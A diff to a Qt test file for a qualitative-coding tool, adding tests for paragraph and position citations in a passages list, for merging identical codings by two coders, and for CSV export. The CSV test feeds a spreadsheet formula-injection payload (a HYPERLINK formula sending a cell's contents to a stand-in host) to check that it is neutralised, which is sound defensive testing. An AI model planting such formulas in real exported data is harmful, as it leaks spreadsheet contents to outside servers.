@@ -31,12 +31,14 @@
 #include <QCheckBox>
 #include <QClipboard>
 #include <QComboBox>
+#include <QDir>
 #include <QFile>
 #include <QImage>
 #include <QListWidget>
 #include <QSettings>
 #include <QSignalSpy>
 #include <QSpinBox>
+#include <QStandardItemModel>
 #include <QStandardPaths>
 #include <QTabWidget>
 #include <QTableView>
@@ -295,6 +297,10 @@ private Q_SLOTS:
         QCOMPARE(dialog->model()->passages()[0].text, QStringLiteral("Exam pressure"));
         QCOMPARE(dialog->model()->passages()[1].text, QStringLiteral("Exam pressure is high."));
         QCOMPARE(dialog->model()->passages()[1].who, QStringLiteral("bob"));
+        // Citations: bj1's first line "Exam pressure is high." is paragraph 1; characters counted from 1.
+        QCOMPARE(dialog->model()->index(0, PassagesModel::ParagraphColumn).data().toString(), QStringLiteral("¶ 1"));
+        QCOMPARE(dialog->model()->index(0, PassagesModel::PositionColumn).data().toString(), QStringLiteral("1–13"));
+        QCOMPARE(dialog->model()->index(1, PassagesModel::PositionColumn).data().toString(), QStringLiteral("1–22"));
 
         // From the passage to the document: the view shows bj1 with [0,22) selected.
         doubleClick(dialog->view(), dialog->model()->index(1, PassagesModel::TextColumn));
@@ -334,6 +340,9 @@ private Q_SLOTS:
         QCOMPARE(passageIds(m_compare->passagesDialog()), (QList<qint64>{m_codings[3], m_codings[2]}));
         QCOMPARE(m_compare->passagesDialog()->model()->passages()[0].text,
                  QStringLiteral("high.\nWorkload grows every term."));
+        // [17,49) runs from paragraph 1 into paragraph 2 (which starts at 23).
+        QCOMPARE(m_compare->passagesDialog()->model()->index(0, PassagesModel::ParagraphColumn).data().toString(),
+                 QStringLiteral("¶ 1–2"));
         m_compare->passagesDialog()->close();
 
         const QString png = m_dir.filePath(QStringLiteral("chart.png"));
@@ -361,6 +370,60 @@ private Q_SLOTS:
         copyTableAsCsv(view);
         QVERIFY(QApplication::clipboard()->text().startsWith(QStringLiteral("Code,Beijing,Total\nexam pressure,2,3\n")));
         view->setColumnHidden(2, false);
+    }
+
+    // Copy as CSV neutralises text a spreadsheet would run; numbers the model holds stay numbers.
+    void copiedCsvCannotRunFormulas()
+    {
+        QStandardItemModel model(1, 4);
+        model.setHorizontalHeaderLabels({QStringLiteral("=name"), QStringLiteral("count"), QStringLiteral("kappa"),
+                                         QStringLiteral("text")});
+        model.setItem(0, 0, new QStandardItem(QStringLiteral("=HYPERLINK(\"http://x/?\"&A1)")));
+        auto *count = new QStandardItem;
+        count->setData(-3, Qt::DisplayRole);
+        model.setItem(0, 1, count);
+        model.setItem(0, 2, new QStandardItem(QStringLiteral("-0.25")));
+        model.setItem(0, 3, new QStandardItem(QStringLiteral("@SUM(1)")));
+        QCOMPARE(tableCsv(&model), QStringLiteral("'=name,count,kappa,text\n\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",-3,-0.25,'@SUM(1)\n"));
+    }
+
+    // A passage two coders coded identically is one row of the passages list, naming both.
+    void passagesListShowsAPassageOnceWithItsCoders()
+    {
+        QTemporaryDir folder;
+        auto project = Project::create(QDir(folder.path()).filePath(QStringLiteral("p.marginalia")));
+        QVERIFY(project);
+        NewDocument document;
+        document.name = QStringLiteral("t");
+        document.text = QStringLiteral("intro\n\nT: we teach to the exam\n");   // paragraph 2 starts at 7
+        auto documentId = DocumentStore(**project).add(document);
+        QVERIFY(documentId);
+        auto codeId = Codebook(**project).add({QStringLiteral("exam"), 0, QStringLiteral("#e06c75"), {}, {}});
+        QVERIFY(codeId);
+        for (const QString &coder : {QStringLiteral("bob"), QStringLiteral("ann")}) {
+            NewCoding coding;
+            coding.documentId = *documentId;
+            coding.codeId = *codeId;
+            coding.start = 10;   // "we teach"
+            coding.end = 18;
+            coding.coder = coder;
+            QVERIFY(CodingStore(**project).add(coding));
+        }
+        CodingFilter filter;
+        filter.codeIds = {*codeId};
+        filter.passages = true;
+        auto segments = CodingStore(**project).segments(filter);
+        QVERIFY(segments);
+        QList<Passage> passages;
+        for (const CodedSegment &segment : std::as_const(*segments))
+            passages.append(Passage::fromSegment(segment));
+        PassagesModel model;
+        model.setPassages(passages);
+        QCOMPARE(model.rowCount(), 1);
+        QCOMPARE(model.index(0, PassagesModel::WhoColumn).data().toString(), QStringLiteral("ann, bob"));
+        QCOMPARE(model.index(0, PassagesModel::ParagraphColumn).data().toString(), QStringLiteral("¶ 2 (T)"));
+        QCOMPARE(model.index(0, PassagesModel::PositionColumn).data().toString(), QStringLiteral("11–18"));
+        QCOMPARE(model.index(0, PassagesModel::TextColumn).data().toString(), QStringLiteral("we teach"));
     }
 
     void cooccurrenceListsPairsAndTheirPassages()
